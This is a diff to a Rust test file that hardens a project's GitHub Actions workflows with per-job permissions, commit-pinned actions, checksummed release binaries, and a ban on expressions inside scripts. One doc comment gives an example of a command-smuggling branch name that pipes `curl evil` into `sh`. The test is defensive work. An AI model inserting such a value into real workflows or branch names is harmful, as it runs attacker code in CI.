@@ -40,10 +40,15 @@ fn the_pages_workflow_checks_builds_and_deploys_with_the_official_actions() {
     let repo = Path::new(env!("CARGO_MANIFEST_DIR"));
     let src = std::fs::read_to_string(repo.join(".github/workflows/pages.yml")).unwrap();
     let wf = yaml::parse(&src, 0).expect("the workflow is valid YAML");
-    let perms = get(&wf, "permissions");
-    assert_eq!(text(perms, "pages"), Some("write"));
-    assert_eq!(text(perms, "id-token"), Some("write"));
+    // Rights per job: building reads, only deploying writes Pages.
+    assert_eq!(get(&wf, "permissions"), &Yaml::Map(Vec::new()));
     let jobs = get(&wf, "jobs");
+    let build_perms = get(get(jobs, "build"), "permissions");
+    assert_eq!(text(build_perms, "contents"), Some("read"));
+    assert_ne!(text(build_perms, "pages"), Some("write"));
+    let deploy_perms = get(get(jobs, "deploy"), "permissions");
+    assert_eq!(text(deploy_perms, "pages"), Some("write"));
+    assert_eq!(text(deploy_perms, "id-token"), Some("write"));
     let build = steps(get(jobs, "build"));
     let deploy = steps(get(jobs, "deploy"));
     let uses: Vec<&str> = build
@@ -52,13 +57,16 @@ fn the_pages_workflow_checks_builds_and_deploys_with_the_official_actions() {
         .filter_map(|s| text(s, "uses"))
         .collect();
     for action in [
-        "actions/checkout@v6",
-        "actions/configure-pages@v6",
-        "actions/upload-pages-artifact@v5",
-        "actions/deploy-pages@v5",
-        "actions/cache@v6",
+        "actions/checkout@",
+        "actions/configure-pages@",
+        "actions/upload-pages-artifact@",
+        "actions/deploy-pages@",
+        "actions/cache@",
     ] {
-        assert!(uses.contains(&action), "{action} not used: {uses:?}");
+        assert!(
+            uses.iter().any(|u| u.starts_with(action)),
+            "{action} not used: {uses:?}"
+        );
     }
     let runs: Vec<&str> = build.iter().filter_map(|s| text(s, "run")).collect();
     let check = runs
@@ -71,10 +79,7 @@ fn the_pages_workflow_checks_builds_and_deploys_with_the_official_actions() {
         .expect("runs briefing build");
     assert!(check < build_i, "check runs before build");
     let cmd = runs[build_i];
-    assert!(
-        cmd.contains("--base-url \"${{ steps.pages.outputs.base_url }}/\""),
-        "{cmd}"
-    );
+    assert!(cmd.contains("--base-url \"$BASE_URL/\""), "{cmd}");
     assert!(runs[check].contains("--format github"), "{}", runs[check]);
     assert!(cmd.contains("--locked"), "{cmd}");
     let upload = build
@@ -85,7 +90,8 @@ fn the_pages_workflow_checks_builds_and_deploys_with_the_official_actions() {
     photos_are_cached_before_the_build(&build);
 
     // Run the same build command, with the values GitHub gives a project site.
-    let (_tmp, out) = run_workflow_build(cmd);
+    let step = build.iter().find(|s| text(s, "run") == Some(cmd)).unwrap();
+    let (_tmp, out) = run_workflow_build(step);
     let home = std::fs::read_to_string(out.join("index.html")).unwrap();
     assert!(
         home.contains("href=\"/briefing/articles/"),
@@ -105,7 +111,7 @@ fn the_pages_workflow_checks_builds_and_deploys_with_the_official_actions() {
 fn photos_are_cached_before_the_build(build: &[&Yaml]) {
     let at = |pred: &dyn Fn(&Yaml) -> bool| build.iter().position(|s| pred(s));
     let cache = at(&|s| {
-        text(s, "uses") == Some("actions/cache@v6")
+        text(s, "uses").is_some_and(|u| u.starts_with("actions/cache@"))
             && text(get(s, "with"), "path") == Some("~/.cache/briefing")
     })
     .expect("a cache step for ~/.cache/briefing");
@@ -122,11 +128,33 @@ fn photos_are_cached_before_the_build(build: &[&Yaml]) {
     assert!(cache < build_at, "the cache is restored before the build");
 }
 
-/// Run a workflow's `cargo run … -- build …` command on this repository, with the values
-/// GitHub gives a project site; returns the output folder (and what keeps it alive).
-fn run_workflow_build(cmd: &str) -> (tempfile::TempDir, std::path::PathBuf) {
+/// Run a workflow step's `cargo run … -- build …` command on this repository, with the values
+/// GitHub gives a project site (its `env:` filled, then the script's variables); returns the
+/// output folder (and what keeps it alive).
+fn run_workflow_build(step: &Yaml) -> (tempfile::TempDir, std::path::PathBuf) {
     let repo = Path::new(env!("CARGO_MANIFEST_DIR"));
-    let args: Vec<String> = expand(cmd.split(" -- ").nth(1).unwrap())
+    let mut vars: Vec<(String, String)> = vec![
+        ("GITHUB_SERVER_URL".into(), "https://github.com".into()),
+        ("GITHUB_REPOSITORY".into(), "someone/briefing".into()),
+    ];
+    if let Yaml::Map(env) = get(step, "env") {
+        for (k, v) in env {
+            if let Yaml::Str(v) = v {
+                vars.push((k.clone(), expand(v)));
+            }
+        }
+    }
+    let mut cmd = text(step, "run").unwrap().to_string();
+    // Longest names first, so that `$BASE_URL` is not taken for `$BASE`.
+    vars.sort_by_key(|(k, _)| std::cmp::Reverse(k.len()));
+    for (k, v) in &vars {
+        cmd = cmd.replace(&format!("${k}"), v);
+    }
+    assert!(!cmd.contains('$'), "a value left unfilled: {cmd}");
+    let args: Vec<String> = cmd
+        .split(" -- ")
+        .nth(1)
+        .unwrap()
         .split_whitespace()
         .map(|a| a.trim_matches('"').to_string())
         .collect();
@@ -140,16 +168,15 @@ fn run_workflow_build(cmd: &str) -> (tempfile::TempDir, std::path::PathBuf) {
 }
 
 /// The GitHub expressions the workflows use, as GitHub fills them for a project site.
-fn expand(cmd: &str) -> String {
-    cmd.replace(
-        "${{ steps.pages.outputs.base_url }}",
-        "https://someone.github.io/briefing",
-    )
-    .replace("${{ github.server_url }}", "https://github.com")
-    .replace("${{ github.repository }}", "someone/briefing")
-    .replace("${{ github.repository_owner }}", "someone")
-    .replace("${{ github.event.repository.name }}", "briefing")
-    .replace("${{ github.ref_name }}", "main")
+fn expand(value: &str) -> String {
+    value
+        .replace(
+            "${{ steps.pages.outputs.base_url }}",
+            "https://someone.github.io/briefing",
+        )
+        .replace("${{ github.repository_owner }}", "someone")
+        .replace("${{ github.event.repository.name }}", "briefing")
+        .replace("${{ github.ref_name }}", "main")
 }
 
 fn load(path: &Path) -> Yaml {
@@ -183,10 +210,18 @@ fn the_pull_request_workflow_checks_and_uploads_a_preview_but_never_deploys() {
     assert!(runs[0].contains("check --format github"), "{runs:?}");
     assert!(runs[1].contains("build --format github"), "{runs:?}");
     let uses: Vec<&str> = check.iter().filter_map(|s| text(s, "uses")).collect();
-    assert!(uses.contains(&"actions/upload-artifact@v4"), "{uses:?}");
+    assert!(
+        uses.iter()
+            .any(|u| u.starts_with("actions/upload-artifact@")),
+        "{uses:?}"
+    );
     assert!(!uses.iter().any(|u| u.contains("deploy-pages")), "{uses:?}");
     // Its build command builds this repository's site under the project path.
-    let (_tmp, out) = run_workflow_build(runs[1]);
+    let step = check
+        .iter()
+        .find(|s| text(s, "run") == Some(runs[1]))
+        .unwrap();
+    let (_tmp, out) = run_workflow_build(step);
     assert!(
         std::fs::read_to_string(out.join("index.html"))
             .unwrap()
@@ -200,8 +235,9 @@ fn the_release_workflow_attaches_binaries_to_the_tag_release() {
     let wf = load(&repo.join(".github/workflows/release.yml"));
     let tags = list(get(get(&wf, "on"), "push"), "tags");
     assert_eq!(tags, [&Yaml::Str("v*".into())]);
-    assert_eq!(text(get(&wf, "permissions"), "contents"), Some("write"));
+    assert_eq!(get(&wf, "permissions"), &Yaml::Map(Vec::new()));
     let build = get(get(&wf, "jobs"), "build");
+    assert_eq!(text(get(build, "permissions"), "contents"), Some("write"));
     let targets: Vec<&str> = list(get(get(build, "strategy"), "matrix"), "include")
         .iter()
         .filter_map(|m| text(m, "target"))
@@ -217,6 +253,67 @@ fn the_release_workflow_attaches_binaries_to_the_tag_release() {
             .any(|r| r.contains("cargo build --locked --release")),
         "{runs:?}"
     );
+    // A checksum beside each archive; a published binary is never replaced.
+    assert!(
+        runs.iter()
+            .any(|r| r.contains("sha256sum \"$file\" > \"$file.sha256\"")),
+        "{runs:?}"
+    );
+    assert!(!runs.iter().any(|r| r.contains("--clobber")), "{runs:?}");
+}
+
+/// What every workflow (this repository's, and those `briefing init` writes) must hold: each
+/// action pinned to a commit, and no GitHub expression inside a script (a branch or tag name
+/// such as `a\";curl evil|sh;\"` would run); values come in through `env:`.
+#[test]
+fn every_workflow_pins_its_actions_and_keeps_expressions_out_of_scripts() {
+    let repo = Path::new(env!("CARGO_MANIFEST_DIR"));
+    let tmp = tempfile::tempdir().unwrap();
+    let site = tmp.path().join("portal");
+    let run = crate::common::run_in(tmp.path(), &["init", site.to_str().unwrap()]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let mut files: Vec<std::path::PathBuf> = ["pages.yml", "preview.yml", "release.yml"]
+        .iter()
+        .map(|f| repo.join(".github/workflows").join(f))
+        .collect();
+    files.extend(
+        ["pages.yml", "preview.yml"]
+            .iter()
+            .map(|f| site.join(".github/workflows").join(f)),
+    );
+    for file in &files {
+        let wf = load(file);
+        let Yaml::Map(jobs) = get(&wf, "jobs") else {
+            panic!("{}: no jobs", file.display())
+        };
+        for (name, job) in jobs {
+            for step in steps(job) {
+                if let Some(uses) = text(step, "uses") {
+                    let sha = uses.split_once('@').map_or("", |(_, r)| r);
+                    assert!(
+                        sha.len() == 40 && sha.bytes().all(|b| b.is_ascii_hexdigit()),
+                        "{}: {name}: `{uses}` is not pinned to a commit",
+                        file.display()
+                    );
+                }
+                if let Some(run) = text(step, "run") {
+                    assert!(
+                        !run.contains("${{"),
+                        "{}: {name}: an expression in a script: {run}",
+                        file.display()
+                    );
+                }
+            }
+        }
+    }
+    // The binary the content-only workflows download is checked before it runs.
+    for wf in ["pages.yml", "preview.yml"] {
+        let src = std::fs::read_to_string(site.join(".github/workflows").join(wf)).unwrap();
+        let check = src
+            .find("sha256sum --check --strict")
+            .expect("a checksum check");
+        assert!(check < src.find("tar xzf").unwrap(), "{wf}");
+    }
 }
 
 #[test]
